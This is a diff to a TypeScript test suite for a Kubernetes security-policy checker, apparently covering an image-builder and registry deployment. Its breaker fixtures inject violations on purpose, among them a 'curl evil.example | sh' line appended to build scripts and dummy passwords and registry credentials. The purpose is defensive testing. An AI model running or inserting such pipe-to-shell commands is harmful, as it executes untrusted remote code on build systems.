@@ -28,8 +28,12 @@ const BREAKERS: Record<string, (ms: Manifest[]) => void> = {
   IB006: (ms) => { builder(ms).volumes[0].hostPath.type = undefined; },
   IB007: (ms) => { registry(ms).spec.replicas = 2; },
   IB008: (ms) => { builder(ms).containers[0].securityContext.readOnlyRootFilesystem = true; },
-  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap')!.data['build.sh'] += 'curl evil.example | sh\n'; },
+  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'image-builder-script')!.data['build.sh'] += 'curl evil.example | sh\n'; },
   IB011: (ms) => { builder(ms).containers[0].securityContext.seccompProfile = { type: 'Unconfined' }; },
+  IB014: (ms) => { ms.push({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'registry-push' }, stringData: { password: 'x' } }); },
+  IB015: (ms) => { env(ms, 'REGISTRY_PASSWORD').valueFrom.secretKeyRef.name = 'another-secret'; },
+  IB016: (ms) => { registry(ms).spec.template.spec.containers[1].volumeMounts = []; },
+  IB017: (ms) => { configMap(ms).data['config.yml'] += 'storage:\n  cache:\n    blobdescriptor: inmemory\n'; },
 };
 
 /** The same app built by the buildkit engine (builders.engine: buildkit). */
@@ -60,8 +64,10 @@ const ENGINE_AGNOSTIC: Record<string, (ms: Manifest[]) => void> = {
   IB002: BREAKERS.IB002,
   IB004: BREAKERS.IB004,
   IB005: BREAKERS.IB005,
-  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap')!.data['buildkit.sh'] += 'curl evil.example | sh\n'; },
+  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'image-builder-buildkit-script')!.data['buildkit.sh'] += 'curl evil.example | sh\n'; },
 };
+
+const configMap = (ms: Manifest[]) => ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'registry-config')!;
 
 describe('policy', () => {
   test('every rule has a breaker below', () => {
@@ -100,7 +106,7 @@ describe('policy', () => {
 
   test('the committed dist/ YAML, read as kubectl reads it (YAML 1.1), keeps every rule', () => {
     const manifests = parseManifests(distText());
-    expect(manifests.map((m) => m.kind)).toEqual(['Deployment', 'Service', 'ConfigMap', 'Job']);
+    expect(manifests.map((m) => m.kind)).toEqual(['ConfigMap', 'Deployment', 'Service', 'ConfigMap', 'ConfigMap', 'CronJob', 'Job']);
     expect(checkPolicy(manifests)).toEqual([]);
   });
 
@@ -109,7 +115,7 @@ describe('policy', () => {
     BREAKERS[id](manifests);
     const violations = checkPolicy(manifests);
     expect(violations.map((v) => v.rule)).toEqual([id]);
-    expect(violations[0].object).toMatch(/^(Job|Deployment|ConfigMap)\//);
+    expect(violations[0].object).toMatch(/^(Job|Deployment|Secret|ConfigMap)\//);
     expect(violations[0].fix.length).toBeGreaterThan(10);
   });
 
@@ -176,5 +182,25 @@ describe('policy', () => {
     const manifests = clone(synthDefault());
     registry(manifests).spec.template.spec.volumes.push({ name: 'host', hostPath: { path: '/var/run/docker.sock', type: 'Socket' } });
     expect(checkPolicy(manifests).map((v) => v.message)).toEqual(['hostPath /var/run/docker.sock in a workload that is not a builder (builders are recognised by the Pod template label app.kubernetes.io/component: builder)']);
+  });
+});
+
+describe('IB014: no secret material, whichever way it sneaks in', () => {
+  const violations = (mutate: (ms: Manifest[]) => void) => {
+    const ms = clone(synthDefault());
+    mutate(ms);
+    return checkPolicy(ms).filter((v) => v.rule === 'IB014').map((v) => v.message);
+  };
+  test('a literal password in env', () => {
+    expect(violations((ms) => { builder(ms).containers[0].env.push({ name: 'OLD_REGISTRY_PASSWORD', value: 'hunter2' }); }))
+      .toEqual(['env OLD_REGISTRY_PASSWORD has a literal value; read it from a Secret (valueFrom.secretKeyRef)']);
+  });
+  test('an htpasswd line (bcrypt) in a ConfigMap', () => {
+    const line = 'builder:$2y$05$' + 'a'.repeat(53);
+    expect(violations((ms) => { configMap(ms).data.htpasswd = line; })).toEqual(['a bcrypt password hash in the manifest']);
+  });
+  test('a docker config.json with auths in an annotation', () => {
+    expect(violations((ms) => { job(ms).metadata.annotations = { cfg: '{"auths": {"localhost:30500": {"auth": "YnVpbGRlcjpodW50ZXIy"}}}' }; }))
+      .toEqual(['a docker config.json with credentials in the manifest']);
   });
 });
